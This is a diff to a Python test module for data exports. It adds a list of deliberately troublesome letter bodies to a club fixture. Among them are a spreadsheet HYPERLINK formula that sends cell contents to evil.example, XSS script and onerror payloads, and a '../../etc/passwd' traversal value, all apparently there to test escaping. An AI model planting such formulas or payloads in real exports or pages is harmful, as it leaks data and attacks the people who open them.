@@ -19,6 +19,17 @@ from tests.exports.sources import small_company
 TABLES = {"shop": shop_tables.shop, "web_log": shop_tables.web_log, "club": small_company.tables}
 CLUB = "CLUB_DATABASE"  # the environment variable with its address
 WAYS = ("READ", "WRITE")
+NASTY_TEXTS = (  # to spreadsheets, pages, and whoever tells texts from other values by their looks
+    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
+    "+1 530 555 0199\t@SUM(A1:A9)",
+    "<script>alert('x')</script> & <img src=x onerror=alert(1)> &amp; ]]>",
+    "null",
+    "",
+    "'' \"quoted\", with a comma;\r\nCRLF, LF\n and an end \\",
+    "Zoe\u0308 \U0001f9d1\u200d\U0001f33e \u202eright to left\u202c \u2028 \ufeff山",
+    '{"$file": "../../etc/passwd"}',
+    "200 kB: " + "Zoë's <b>long</b> text\n" * 9_000,
+)
 BY_ADDRESS = {  # beside the account, if they name one
     "shop/orders": "guest_email",
     "shop/support_tickets": "contact_email",
@@ -170,7 +181,10 @@ def of_person(rows: Rows, who: Person) -> dict[str, dict[Key, Row]]:
 
 
 def club_of(people: Sequence[Person]) -> dict[str, list[Row]]:
-    """The rows of a club whose members these people are: each has two letters, a stamp on each, and an invoice."""
+    """The rows of a club whose members these people are: each has two letters, a stamp on each, and an invoice.
+
+    The first one has more letters, one for each nasty text.
+    """
     members = [
         small_company.ANN
         | {"id": who.id, "email": who.email, "name": who.name, "phone": who.phone, "born": who.birth_date}
@@ -181,9 +195,13 @@ def club_of(people: Sequence[Person]) -> dict[str, list[Row]]:
         for who in people
         for number, sent_at in enumerate(letter["sent_at"] for letter in small_company.LETTERS[:2])
     ]
+    nasty = [
+        {"id": 10_000 + number, "member_id": people[0].id, "body": body, "sent_at": None}
+        for number, body in enumerate(NASTY_TEXTS)
+    ]
     return {
         "members": members,
-        "letters": letters,
+        "letters": letters + nasty,
         "stamps": [{"letter_id": letter["id"], "place": "top", "cents": 60} for letter in letters],
         "invoices": [{"id": who.id, "member_id": who.id, "cents": 500} for who in people],
     }
